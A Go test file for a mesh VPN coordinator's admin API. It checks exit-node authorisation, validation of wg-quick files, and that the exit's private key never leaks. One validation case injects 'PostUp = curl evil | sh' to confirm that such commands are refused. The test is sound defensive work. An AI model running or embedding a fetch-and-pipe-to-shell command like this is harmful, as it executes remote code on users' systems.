package adminapi

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"net/http/httptest"
	"strings"
	"testing"

	"meshwork.dev/coord/api"
)

// Keys of a test exit: ours (which must never leave coord) and the peer's.
var (
	exitPrivKey = base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{0xa7}, 32))
	exitPeerKey = base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{0x3c}, 32))
)

// wgFile is a wg-quick file as a VPN provider hands it out.
var wgFile = `# exit in Frankfurt
[Interface]
PrivateKey = ` + exitPrivKey + `
Address = 10.64.12.7/32, fc00:bbbb::7/128
DNS = 10.64.0.1
MTU = 1420

[Peer]
PublicKey = ` + exitPeerKey + `
AllowedIPs = 0.0.0.0/0, ::/0
Endpoint = 203.0.113.9:51820
PersistentKeepalive = 25
`

func (e *env) createExit(key string, req api.CreateExit) (int, string) {
	e.t.Helper()
	body, _ := json.Marshal(req)
	return e.do(key, "POST", "/v1/exits", string(body))
}

// errMessage is the message of an error answer.
func errMessage(body string) string {
	var eb struct{ Error api.Error }
	json.Unmarshal([]byte(body), &eb)
	return eb.Error.Message
}

// TestExitsAuthz: admins add and remove exits, members list and show them and pin their own
// workspaces (not others'); an exit in use cannot be removed, an unknown one not pinned.
func TestExitsAuthz(t *testing.T) {
	e := newEnv(t)
	before := e.snapshot()
	if status, body := e.createExit(e.alice, api.CreateExit{Name: "fra", WireGuard: wgFile}); status != 403 || !strings.Contains(body, "admins") {
		t.Errorf("member adds an exit: %d %s; want 403", status, body)
	}
	if e.snapshot() != before {
		t.Errorf("a refused add changed the state")
	}
	status, body := e.createExit(e.admin, api.CreateExit{Name: "fra", WireGuard: wgFile, PublicIP: "203.0.113.9"})
	var x api.Exit
	json.Unmarshal([]byte(body), &x)
	want := api.Exit{Name: "fra", Kind: api.ExitWireGuard, Endpoint: "203.0.113.9:51820", PublicKey: exitPeerKey,
		Address: "10.64.12.7/32,fc00:bbbb::7/128", DNS: []string{"10.64.0.1"}, PublicIP: "203.0.113.9", CreatedAt: x.CreatedAt}
	if status != 201 || x.Name != want.Name || x.Kind != want.Kind || x.Endpoint != want.Endpoint || x.PublicKey != want.PublicKey ||
		x.Address != want.Address || strings.Join(x.DNS, ",") != "10.64.0.1" || x.PublicIP != want.PublicIP {
		t.Fatalf("admin adds an exit: %d %s; want 201 with %+v", status, body, want)
	}
	if status, body := e.createExit(e.admin, api.CreateExit{Name: "wm-out", Node: "wm1"}); status != 201 || !strings.Contains(body, `"kind": "node"`) {
		t.Errorf("admin adds a node exit: %d %s", status, body)
	}
	if status, body := e.createExit(e.admin, api.CreateExit{Name: "x", Node: "nope"}); status != 404 || !strings.Contains(body, "meshctl node list") {
		t.Errorf("node exit of an unknown node: %d %s", status, body)
	}
	if status, body := e.do(e.alice, "GET", "/v1/exits", ""); status != 200 || !strings.Contains(body, `"fra"`) || !strings.Contains(body, `"wm-out"`) {
		t.Errorf("member lists exits: %d %s", status, body)
	}
	if status, body := e.do(e.bob, "GET", "/v1/exits/fra", ""); status != 200 || !strings.Contains(body, exitPeerKey) {
		t.Errorf("member shows an exit: %d %s", status, body)
	}
	if status, body := e.do(e.bob, "GET", "/v1/exits/nope", ""); status != 404 || !strings.Contains(body, "meshctl exit list") {
		t.Errorf("show of an unknown exit: %d %s", status, body)
	}

	for _, tt := range []struct {
		what, key, ws, exit string
		status              int
		says                string
	}{
		{"another's workspace", e.bob, "alice-ws", "fra", 404, "no workspace"},
		{"an unknown exit", e.alice, "alice-ws", "nope", 404, "meshctl exit list"},
		{"her own", e.alice, "alice-ws", "fra", 200, ""},
		{"an admin, anyone's", e.admin, "bob-ws", "fra", 200, ""},
	} {
		status, body := e.do(tt.key, "POST", "/v1/workspaces/"+tt.ws+"/exit", `{"exit": "`+tt.exit+`"}`)
		if status != tt.status || !strings.Contains(errMessage(body), tt.says) {
			t.Errorf("pin %s: %d %s; want %d saying %q", tt.what, status, body, tt.status, tt.says)
		}
	}
	if status, body := e.do(e.alice, "POST", "/v1/workspaces", `{"name": "pinned", "machine": "wm1", "image": "img", "exit": "wm-out"}`); status != 201 || !strings.Contains(body, `"exit": "wm-out"`) {
		t.Errorf("create pinned: %d %s", status, body)
	}
	if status, body := e.do(e.alice, "POST", "/v1/workspaces", `{"name": "lost", "machine": "wm1", "image": "img", "exit": "nope"}`); status != 404 || !strings.Contains(body, "meshctl exit list") {
		t.Errorf("create pinned to an unknown exit: %d %s", status, body)
	}
	if status, body := e.do(e.alice, "DELETE", "/v1/exits/fra", ""); status != 403 {
		t.Errorf("member removes an exit: %d %s", status, body)
	}
	status, body = e.do(e.admin, "DELETE", "/v1/exits/fra", "")
	if msg := errMessage(body); status != 409 || !strings.Contains(msg, "alice-ws") || !strings.Contains(msg, "bob-ws") || !strings.Contains(msg, "meshctl ws set-exit alice-ws none") {
		t.Errorf("remove an exit in use: %d %s; want 409 naming the workspaces and meshctl ws set-exit WS none", status, body)
	}
	for _, ws := range []string{"alice-ws", "bob-ws"} {
		if status, body := e.do(e.admin, "POST", "/v1/workspaces/"+ws+"/exit", `{"exit": ""}`); status != 200 || strings.Contains(body, `"exit"`) {
			t.Errorf("unpin %s: %d %s", ws, status, body)
		}
	}
	if status, body := e.do(e.admin, "DELETE", "/v1/exits/fra", ""); status != 204 {
		t.Errorf("remove an unused exit: %d %s", status, body)
	}
	_, audit := e.do(e.admin, "GET", "/v1/audit?since=0", "")
	for _, a := range []string{`"exit.create"`, `"exit.delete"`, `"workspace.exit"`} {
		if !strings.Contains(audit, a) {
			t.Errorf("audit has no %s", a)
		}
	}
}

// TestExitBadWireGuardFiles: each malformed wg-quick file is a 400 naming the line and the
// fix; nothing is stored.
func TestExitBadWireGuardFiles(t *testing.T) {
	e := newEnv(t)
	swap := func(old, new string) string {
		if !strings.Contains(wgFile, old) {
			t.Fatalf("the test file has no %q", old)
		}
		return strings.Replace(wgFile, old, new, 1)
	}
	for _, tt := range []struct {
		name, file, says string
	}{
		{"bad private key", swap("PrivateKey = "+exitPrivKey, "PrivateKey = abc"), "line 3: PrivateKey is not a WireGuard key"},
		{"bad address", swap("10.64.12.7/32", "10.64.12"), `line 4: "10.64.12" in Address is not an IP address`},
		{"DNS name", swap("DNS = 10.64.0.1", "DNS = 10.64.0.1, corp.example"), `line 5: DNS "corp.example" is not an IP address`},
		{"split tunnel", swap("AllowedIPs = 0.0.0.0/0, ::/0", "AllowedIPs = 10.0.0.0/8"), "line 10: AllowedIPs \"10.0.0.0/8\": an exit carries all of a workspace's internet traffic: write AllowedIPs = 0.0.0.0/0, ::/0"},
		{"bad endpoint", swap("203.0.113.9:51820", "203.0.113.9"), `line 11: "203.0.113.9" in Endpoint: want host:port`},
		{"a command", swap("MTU = 1420", "PostUp = curl evil | sh"), "line 6: PostUp: Meshwork runs no commands"},
		{"unknown key", swap("MTU = 1420", "Colour = blue"), "line 6: unknown key Colour in [Interface]"},
		{"not key = value", swap("MTU = 1420", "MTU"), `line 6: "MTU": want Key = Value`},
		{"two peers", wgFile + "[Peer]\n", "line 13: a second [Peer]"},
		{"key twice", swap("MTU = 1420", "PrivateKey = "+exitPrivKey), "line 6: PrivateKey again (first on line 3)"},
		{"unknown section", swap("[Peer]", "[Server]"), "line 8: unknown section [Server]"},
		{"no peer key", swap("PublicKey = "+exitPeerKey, ""), "no PublicKey in [Peer]"},
		{"no allowed IPs", swap("AllowedIPs = 0.0.0.0/0, ::/0", ""), "no AllowedIPs in [Peer]"},
		{"no interface", "# nothing\n", "no PrivateKey in [Interface]"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			before := e.snapshot()
			status, body := e.createExit(e.admin, api.CreateExit{Name: "fra", WireGuard: tt.file})
			if msg := errMessage(body); status != 400 || !strings.Contains(msg, tt.says) {
				t.Errorf("%d %s; want 400 saying %q", status, body, tt.says)
			}
			if strings.Contains(body, exitPrivKey) {
				t.Errorf("the error holds the private key")
			}
			if e.snapshot() != before {
				t.Errorf("a refused file changed the state")
			}
		})
	}
	if status, body := e.createExit(e.admin, api.CreateExit{Name: "fra", WireGuard: wgFile, Node: "wm1"}); status != 400 || !strings.Contains(body, "exactly one") {
		t.Errorf("both a file and a node: %d %s", status, body)
	}
}

// TestExitKeyStaysInside: our private key is in no answer and no audit event, and in the
// state only sealed; it opens with coord's key; without a key coord refuses to store one.
func TestExitKeyStaysInside(t *testing.T) {
	e := newEnv(t)
	_, created := e.createExit(e.admin, api.CreateExit{Name: "fra", WireGuard: wgFile})
	_, pinned := e.do(e.alice, "POST", "/v1/workspaces/alice-ws/exit", `{"exit": "fra"}`)
	_, list := e.do(e.admin, "GET", "/v1/exits", "")
	_, got := e.do(e.alice, "GET", "/v1/exits/fra", "")
	_, ws := e.do(e.alice, "GET", "/v1/workspaces/alice-ws", "")
	_, audit := e.do(e.admin, "GET", "/v1/audit?since=0", "")
	keyBytes, _ := base64.StdEncoding.DecodeString(exitPrivKey)
	for what, text := range map[string]string{"create": created, "pin": pinned, "list": list, "get": got, "workspace": ws, "audit": audit, "state": e.snapshot()} {
		if strings.Contains(text, exitPrivKey) || strings.Contains(text, string(keyBytes)) {
			t.Errorf("%s holds the private key", what)
		}
	}
	if !strings.Contains(pinned, `"exit": "fra"`) {
		t.Errorf("pin answered %s", pinned)
	}
	if k, err := OpenExitKey(e.key, e.b.f.Store().Exit("fra")); err != nil || k != exitPrivKey {
		t.Errorf("OpenExitKey = %q, %v", k, err)
	}
	bare := httptest.NewServer((&Server{Backend: e.b}).Handler())
	defer bare.Close()
	e.srv = bare
	if status, body := e.createExit(e.admin, api.CreateExit{Name: "ams", WireGuard: wgFile}); status != 503 || !strings.Contains(body, "--secret-key-file") {
		t.Errorf("without a key: %d %s; want 503 naming --secret-key-file", status, body)
	}
}

// FuzzWGQuick: the wg-quick parser never panics, and what it accepts has every part an
// exit needs.
func FuzzWGQuick(f *testing.F) {
	f.Add(wgFile)
	f.Add("[Interface]\nPrivateKey=\n[Peer]\n")
	f.Fuzz(func(t *testing.T, text string) {
		q, err := parseWGQuick(text)
		if err == nil && (q.privateKey == "" || q.publicKey == "" || q.endpoint == "" || q.address == "") {
			t.Errorf("accepted %q as %+v", text, q)
		}
	})
}
